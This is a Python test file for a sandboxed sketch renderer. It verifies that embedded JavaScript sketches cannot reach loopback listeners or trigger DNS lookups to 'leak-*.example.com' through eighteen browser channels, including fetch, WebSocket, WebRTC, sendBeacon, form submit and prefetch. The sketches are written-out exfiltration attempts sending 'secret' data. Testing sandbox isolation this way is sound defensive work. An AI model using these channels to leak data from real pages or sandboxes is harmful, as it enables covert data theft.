"""No sketch reaches a socket: every channel seen leaking before, against real loopback listeners.

Each channel gets its own TCP+UDP listener on 127.0.0.1, so the table below counts connections and
datagrams per channel. In-page refusals are bypassed where a sketch could (an iframe's own fetch and
WebSocket are not the harness's), so what is measured is the browser's network namespace. Attempts
must also be *recorded* (the render is `forbidden`) from the browser side.
"""
from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path

import pytest
from listeners import Listener, listeners

from core.render import Renderer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHANNELS = ["iframe_fetch", "iframe_websocket", "worker_fetch", "worker_websocket", "speculation_prefetch",
            "rtc_stun_udp", "rtc_turn_tcp", "webtransport", "iframe_src", "form_submit", "img_srcset",
            "navigation", "a_ping", "window_open", "send_beacon", "event_source", "image", "xhr"]

ATTEMPTS = """
async function setup() {
  createCanvas(64, 64, WEBGL);
  background(255);
  const P = %s;
  const u = (name, scheme = "http") => `${scheme}://127.0.0.1:${P[name]}/${name}`;
  const attempt = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch (e) {} };
  const frame = document.createElement("iframe");
  document.body.appendChild(frame);
  const w = frame.contentWindow, d = w.document;
  attempt(() => w.fetch(u("iframe_fetch"), { method: "POST", body: "secret" }));
  attempt(() => new w.WebSocket(u("iframe_websocket", "ws")));
  attempt(() => new Worker(URL.createObjectURL(new Blob([
    `fetch("${u("worker_fetch")}"); new WebSocket("${u("worker_websocket", "ws")}");`]))));
  attempt(() => {
    const s = document.createElement("script");
    s.type = "speculationrules";
    s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [u("speculation_prefetch")] }] });
    document.head.appendChild(s);
  });
  attempt(() => {
    const pc = new w.RTCPeerConnection({ iceServers: [
      { urls: `stun:127.0.0.1:${P.rtc_stun_udp}` },
      { urls: `turn:127.0.0.1:${P.rtc_turn_tcp}?transport=tcp`, username: "u", credential: "c" }] });
    pc.createDataChannel("x");
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  });
  attempt(() => new w.WebTransport(u("webtransport", "https")).ready);
  attempt(() => { const f = d.createElement("iframe"); f.src = u("iframe_src"); d.body.appendChild(f); });
  attempt(() => {
    const f = d.createElement("form"); f.action = u("form_submit"); f.method = "POST";
    d.body.appendChild(f); f.submit();
  });
  attempt(() => { const i = d.createElement("img"); i.srcset = u("img_srcset") + " 1x"; d.body.appendChild(i); });
  attempt(() => {
    const f = document.createElement("iframe"); document.body.appendChild(f);
    f.contentWindow.location = u("navigation");
  });
  attempt(() => {
    const a = d.createElement("a"); a.href = "#x"; a.ping = u("a_ping"); d.body.appendChild(a); a.click();
  });
  attempt(() => w.open(u("window_open")));
  attempt(() => w.navigator.sendBeacon(u("send_beacon"), "secret"));
  attempt(() => new w.EventSource(u("event_source")));
  attempt(() => { const i = new w.Image(); i.src = u("image"); });
  attempt(() => { const x = new w.XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); });
  await new Promise((r) => setTimeout(r, 1500));  // give every channel time to try
  fill(0);
  rect(-10, -10, 20, 20);
}
"""


def test_no_channel_reaches_a_listener(renderer):
    ears = listeners(CHANNELS)
    try:
        code = ATTEMPTS % json.dumps({name: ear.port for name, ear in ears.items()})
        result = renderer.render(code, timeout=60, use_cache=False)
        time.sleep(1.0)  # late packets still count
        table = {name: (ear.connections, ear.packets) for name, ear in ears.items()}
    finally:
        for ear in ears.values():
            ear.close()
    print("\nchannel → (tcp connections, udp packets):")
    for name, counts in table.items():
        print(f"  {name:22s} {counts}")
    assert result.sandbox.get("netns") is True, result.sandbox
    assert all(counts == (0, 0) for counts in table.values()), table
    assert not result.ok and result.error.kind == "forbidden", result.error  # attempts were recorded


def test_an_empty_render_makes_no_connection_at_all():
    """Not even to the harness host (port 80) or anything else on loopback."""
    try:
        port80 = Listener(80)
    except OSError:
        pytest.skip("port 80 is taken on this machine")
    try:
        async def main():
            async with Renderer(pool_size=1) as r:
                return await r.render("function setup() { createCanvas(32, 32, WEBGL); background(9, 99, 199); rect(0, 0, 9, 9); }",
                                      size=32, timeout=60, use_cache=False)

        result = asyncio.run(main())
        time.sleep(0.5)
    finally:
        port80.close()
    assert result.ok, result.error
    assert (port80.connections, port80.packets) == (0, 0)


DNS_ATTEMPTS = """
async function setup() {
  createCanvas(64, 64, WEBGL);
  background(255);
  const host = "leak-%s.example.com";
  const frame = document.createElement("iframe");
  document.body.appendChild(frame);
  const w = frame.contentWindow;
  const attempt = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch (e) {} };
  attempt(() => w.fetch(`http://${host}/x`));
  attempt(() => { const i = new w.Image(); i.src = `http://img.${host}/i.png`; });
  attempt(() => new w.WebSocket(`ws://ws.${host}/`));
  attempt(() => {
    const pc = new w.RTCPeerConnection({ iceServers: [{ urls: `stun:stun.${host}:3478` },
      { urls: `turn:turn.${host}:3478?transport=udp`, username: "u", credential: "c" }] });
    pc.createDataChannel("x");
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  });
  await new Promise((r) => setTimeout(r, 1000));  // ICE gathering resolves STUN / TURN names now
  fill(0);
  rect(-10, -10, 20, 20);
}
"""


def _sent_packets(pid: int) -> dict[str, int]:
    """{interface: packets sent} in the network namespace of `pid` (/proc/PID/net/dev)."""
    sent = {}
    for line in Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]:
        name, counters = line.split(":", 1)
        sent[name.strip()] = int(counters.split()[9])
    return sent


def test_dns_lookups_leave_no_packet(renderer):
    """Host names the sketch makes Chromium resolve (fetch, image, WebSocket, WebRTC STUN / TURN) send no
    DNS query anywhere: every browser process sits in a network namespace other than ours, whose
    interfaces have sent no packet at all, DNS included. (This machine's resolver is not on loopback, so a
    listener on 127.0.0.1:53 could not hear a leak; the namespace's own counters can.)"""
    import secrets

    from core.render.jail import netns_mode

    if netns_mode() is None:
        pytest.skip("no network namespace can be made here: `brushwork doctor` says so too")
    result = renderer.render(DNS_ATTEMPTS % secrets.token_hex(4), timeout=60, use_cache=False)
    time.sleep(0.5)  # late lookups still count
    jail = renderer.renderer._pool.jail  # noqa: SLF001 (its processes are what is checked)
    seen = {}
    for pid in jail.pids():
        try:
            seen[pid] = (os.readlink(f"/proc/{pid}/ns/net"), _sent_packets(pid))
        except OSError:  # a page's renderer that exited meanwhile
            continue
    ours = os.readlink("/proc/self/ns/net")
    assert len(seen) >= 3, seen  # browser, GPU / network service, renderer
    assert all(ns != ours for ns, _ in seen.values()), seen
    assert all(sum(sent.values()) == 0 for _, sent in seen.values()), seen
    assert sum(_sent_packets(os.getpid()).values()) > 0  # the check is not blind: our namespace does send
    assert not result.ok and result.error.kind == "forbidden", result.error  # the attempts were recorded
